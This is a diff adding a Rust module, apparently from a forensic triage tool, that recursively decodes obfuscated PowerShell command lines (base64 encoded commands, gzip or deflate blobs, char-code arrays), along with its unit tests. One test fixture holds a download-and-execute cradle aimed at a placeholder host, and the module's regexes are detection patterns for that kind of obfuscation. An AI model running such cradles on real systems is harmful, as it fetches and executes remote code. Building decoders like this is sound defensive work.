@@ -0,0 +1,328 @@
+use std::io::Read;
+use std::sync::LazyLock;
+
+use base64::Engine;
+use regex::Regex;
+
+use crate::model::{DecodeStep, ProcessExecArtifact};
+
+/// Nesting limit for decode-inside-decode (e.g. `-enc` wrapping `FromBase64String` wrapping gzip).
+const MAX_DEPTH: usize = 4;
+/// Decoded payloads larger than this are truncated; scripts past this size are not triaged by eye.
+const MAX_DECODED_BYTES: usize = 1024 * 1024;
+const MIN_CHAR_CODES: usize = 4;
+
+static ENCODED_COMMAND_RE: LazyLock<Regex> = LazyLock::new(|| {
+    // PowerShell accepts any unambiguous prefix of -EncodedCommand (-e, -ec, -enc, ...).
+    Regex::new(r"(?i)(?:^|\s)[-/](?:e|ec|en|enc|enco|encod|encode|encoded|encodedc[a-z]*)\s+([A-Za-z0-9+/]{8,}={0,2})")
+        .expect("encoded command regex")
+});
+static FROM_BASE64_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)FromBase64String\(\s*['"]([A-Za-z0-9+/\s]{8,}={0,2})['"]"#)
+        .expect("frombase64 regex")
+});
+static BARE_BASE64_RE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"^[A-Za-z0-9+/]{16,}={0,2}$").expect("bare base64 regex"));
+static CHAR_CAST_RE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?i)\[char\]\s*\(?\s*(\d{1,5})").expect("char cast regex"));
+static CHAR_ARRAY_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)(?:\[char\[\]\]\s*)?\(\s*(\d{1,5}(?:\s*,\s*\d{1,5}){3,})\s*\)")
+        .expect("char array regex")
+});
+
+/// Decode every payload hidden in `parent.command_line` and return them as child artifacts.
+///
+/// Each child carries the step that produced it and is itself decoded recursively, so a
+/// `-EncodedCommand` script that contains a gzip'd `FromBase64String` blob yields a two-level tree.
+pub fn decode_children(parent: &ProcessExecArtifact) -> Vec<ProcessExecArtifact> {
+    decode_layer(parent, &parent.command_line, 0)
+}
+
+fn decode_layer(
+    parent: &ProcessExecArtifact,
+    text: &str,
+    depth: usize,
+) -> Vec<ProcessExecArtifact> {
+    if depth >= MAX_DEPTH {
+        return Vec::new();
+    }
+
+    let mut out: Vec<ProcessExecArtifact> = Vec::new();
+    let mut push = |step: DecodeStep, decoded: String| {
+        let decoded = decoded.trim_matches(char::from(0)).trim().to_string();
+        if decoded.is_empty() || out.iter().any(|c| c.command_line == decoded) {
+            return;
+        }
+        let mut child = ProcessExecArtifact {
+            image: parent.image.clone(),
+            command_line: decoded,
+            encoding: parent.encoding,
+            address: parent.address,
+            decoded_via: Some(step),
+            children: Vec::new(),
+        };
+        child.children = decode_layer(&child, &child.command_line.clone(), depth + 1);
+        out.push(child);
+    };
+
+    for caps in ENCODED_COMMAND_RE.captures_iter(text) {
+        if let Some(bytes) = base64_decode(&caps[1])
+            && let Some(script) = utf16le_to_string(&bytes)
+        {
+            push(DecodeStep::EncodedCommand, script);
+        }
+    }
+
+    let compression = detect_compression_hint(text);
+    for caps in FROM_BASE64_RE.captures_iter(text) {
+        let Some(bytes) = base64_decode(&caps[1]) else {
+            continue;
+        };
+        let decoded = match decompress(&bytes, compression) {
+            Some((step, inflated)) => bytes_to_text(&inflated).map(|s| (step, s)),
+            None => bytes_to_text(&bytes).map(|s| (DecodeStep::Base64, s)),
+        };
+        if let Some((step, text)) = decoded {
+            push(step, text);
+        }
+    }
+
+    // A decoded layer that is itself nothing but base64 (double-encoded payloads).
+    if depth > 0
+        && BARE_BASE64_RE.is_match(text.trim())
+        && let Some(bytes) = base64_decode(text.trim())
+    {
+        let decoded = match decompress(&bytes, None) {
+            Some((step, inflated)) => bytes_to_text(&inflated).map(|s| (step, s)),
+            None => bytes_to_text(&bytes).map(|s| (DecodeStep::Base64, s)),
+        };
+        if let Some((step, text)) = decoded {
+            push(step, text);
+        }
+    }
+
+    if let Some(decoded) = decode_char_codes(text) {
+        push(DecodeStep::CharCodes, decoded);
+    }
+
+    out
+}
+
+fn base64_decode(s: &str) -> Option<Vec<u8>> {
+    let cleaned: String = s.chars().filter(|c| !c.is_whitespace()).collect();
+    let engine = base64::engine::general_purpose::STANDARD;
+    engine
+        .decode(&cleaned)
+        .ok()
+        // Tolerate missing padding, which is common in carved strings.
+        .or_else(|| {
+            base64::engine::general_purpose::STANDARD_NO_PAD
+                .decode(cleaned.trim_end_matches('='))
+                .ok()
+        })
+}
+
+fn utf16le_to_string(bytes: &[u8]) -> Option<String> {
+    if bytes.len() < 2 {
+        return None;
+    }
+    let units: Vec<u16> = bytes
+        .chunks_exact(2)
+        .map(|c| u16::from_le_bytes([c[0], c[1]]))
+        .collect();
+    let s = String::from_utf16(&units).ok()?;
+    is_text(&s).then_some(s)
+}
+
+#[derive(Clone, Copy)]
+enum Compression {
+    Gzip,
+    Deflate,
+}
+
+fn detect_compression_hint(text: &str) -> Option<Compression> {
+    let lc = text.to_ascii_lowercase();
+    if lc.contains("gzipstream") {
+        Some(Compression::Gzip)
+    } else if lc.contains("deflatestream") {
+        Some(Compression::Deflate)
+    } else {
+        None
+    }
+}
+
+/// Inflate `bytes` if the surrounding script asks for it or the gzip magic is present.
+fn decompress(bytes: &[u8], hint: Option<Compression>) -> Option<(DecodeStep, Vec<u8>)> {
+    let is_gzip = bytes.starts_with(&[0x1F, 0x8B]);
+    match (hint, is_gzip) {
+        (_, true) | (Some(Compression::Gzip), _) => {
+            read_limited(flate2::read::GzDecoder::new(bytes)).map(|b| (DecodeStep::Gzip, b))
+        }
+        (Some(Compression::Deflate), _) => {
+            read_limited(flate2::read::DeflateDecoder::new(bytes)).map(|b| (DecodeStep::Deflate, b))
+        }
+        (None, false) => None,
+    }
+}
+
+fn read_limited(reader: impl Read) -> Option<Vec<u8>> {
+    let mut out = Vec::new();
+    reader
+        .take(MAX_DECODED_BYTES as u64)
+        .read_to_end(&mut out)
+        .ok()?;
+    (!out.is_empty()).then_some(out)
+}
+
+/// Decoded bytes are usually UTF-8/ASCII script text, but `[Text.Encoding]::Unicode` payloads
+/// are UTF-16LE; pick whichever reads as text. `None` for binary payloads.
+fn bytes_to_text(bytes: &[u8]) -> Option<String> {
+    let bytes = &bytes[..bytes.len().min(MAX_DECODED_BYTES)];
+    let zeros = bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count();
+    if bytes.len() >= 4
+        && zeros * 2 >= bytes.len() / 2
+        && let Some(s) = utf16le_to_string(bytes)
+    {
+        return Some(s);
+    }
+    let s = match std::str::from_utf8(bytes) {
+        Ok(s) => s,
+        // Cut mid-character by the size limit.
+        Err(e) if e.error_len().is_none() => std::str::from_utf8(&bytes[..e.valid_up_to()]).ok()?,
+        Err(_) => return None,
+    };
+    is_text(s).then(|| s.to_string())
+}
+
+fn decode_char_codes(text: &str) -> Option<String> {
+    let codes: Vec<u32> = if let Some(caps) = CHAR_ARRAY_RE
+        .captures_iter(text)
+        .max_by_key(|c| c[1].len())
+        .filter(|_| text.to_ascii_lowercase().contains("char"))
+    {
+        caps[1]
+            .split(',')
+            .filter_map(|n| n.trim().parse().ok())
+            .collect()
+    } else {
+        CHAR_CAST_RE
+            .captures_iter(text)
+            .filter_map(|c| c[1].parse().ok())
+            .collect()
+    };
+    if codes.len() < MIN_CHAR_CODES {
+        return None;
+    }
+    let s: String = codes.into_iter().filter_map(char::from_u32).collect();
+    is_text(&s).then_some(s)
+}
+
+/// Whether decoded output reads as script text: no replacement characters, and at least 90% of
+/// the characters (NUL padding aside) are printable ASCII or common whitespace. Non-ASCII
+/// characters count against it, so random bytes that happen to decode are rejected.
+fn is_text(s: &str) -> bool {
+    let s = s.trim_matches(char::from(0));
+    if s.is_empty() || s.contains(char::REPLACEMENT_CHARACTER) {
+        return false;
+    }
+    let total = s.chars().count();
+    let printable = s
+        .chars()
+        .filter(|c| matches!(c, '\t' | '\n' | '\r' | ' '..='~'))
+        .count();
+    printable * 10 >= total * 9
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::Write;
+
+    use super::*;
+    use crate::model::ExecArtifactEncoding;
+
+    fn artifact(command_line: &str) -> ProcessExecArtifact {
+        ProcessExecArtifact {
+            image: "powershell.exe".into(),
+            command_line: command_line.into(),
+            encoding: ExecArtifactEncoding::Ascii,
+            address: None,
+            decoded_via: None,
+            children: Vec::new(),
+        }
+    }
+
+    fn b64(bytes: &[u8]) -> String {
+        base64::engine::general_purpose::STANDARD.encode(bytes)
+    }
+
+    fn utf16le(s: &str) -> Vec<u8> {
+        s.encode_utf16().flat_map(u16::to_le_bytes).collect()
+    }
+
+    #[test]
+    fn decodes_text_payloads() {
+        let script = "Write-Host 'hello world'";
+        let children = decode_children(&artifact(&format!(
+            "powershell -enc {}",
+            b64(&utf16le(script))
+        )));
+        assert_eq!(children.len(), 1);
+        assert_eq!(children[0].command_line, script);
+        assert_eq!(children[0].decoded_via, Some(DecodeStep::EncodedCommand));
+
+        let inner = "IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')";
+        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        gz.write_all(inner.as_bytes()).unwrap();
+        let children = decode_children(&artifact(&format!(
+            "IO.Compression.GZipStream([Convert]::FromBase64String('{}'))",
+            b64(&gz.finish().unwrap())
+        )));
+        assert_eq!(children[0].command_line, inner);
+        assert_eq!(children[0].decoded_via, Some(DecodeStep::Gzip));
+
+        let children = decode_children(&artifact("iex ([char[]](72,101,108,108,111) -join '')"));
+        assert_eq!(children[0].command_line, "Hello");
+    }
+
+    #[test]
+    fn rejects_binary_payloads() {
+        // Valid UTF-16 that is all CJK: bytes >= 0x80 once encoded as UTF-8.
+        let cjk: Vec<u8> = [0x00, 0x4e].repeat(16);
+        assert!(decode_children(&artifact(&format!("powershell -enc {}", b64(&cjk)))).is_empty());
+        // Unpaired surrogates.
+        let surrogates: Vec<u8> = [0x00, 0xd8, 0x41, 0x00].repeat(8);
+        assert!(
+            decode_children(&artifact(&format!("powershell -enc {}", b64(&surrogates)))).is_empty()
+        );
+
+        let binary: Vec<u8> = (0u8..=255).rev().collect();
+        assert!(
+            decode_children(&artifact(&format!(
+                "[Convert]::FromBase64String('{}')",
+                b64(&binary)
+            )))
+            .is_empty()
+        );
+
+        assert!(decode_children(&artifact("[char[]](65533,65533,65533,65533)")).is_empty());
+        assert!(decode_children(&artifact("[char[]](1,2,3,4,5,6)")).is_empty());
+    }
+
+    #[test]
+    fn text_checks() {
+        assert!(is_text("Get-Process | Stop-Process\r\n\t-Force\0\0"));
+        assert!(!is_text(""));
+        assert!(!is_text("\0\0\0"));
+        assert!(!is_text("abc\u{FFFD}def"));
+        assert!(!is_text("ÿþýüûúùø"));
+
+        // A payload cut by the size limit mid-character keeps the complete prefix.
+        let mut cut = "x".repeat(MAX_DECODED_BYTES - 1).into_bytes();
+        cut.extend_from_slice("é".as_bytes());
+        assert_eq!(
+            bytes_to_text(&cut).map(|s| s.len()),
+            Some(MAX_DECODED_BYTES - 1)
+        );
+        assert_eq!(bytes_to_text(&[0xc3, 0x28, b'a', b'b']), None);
+    }
+}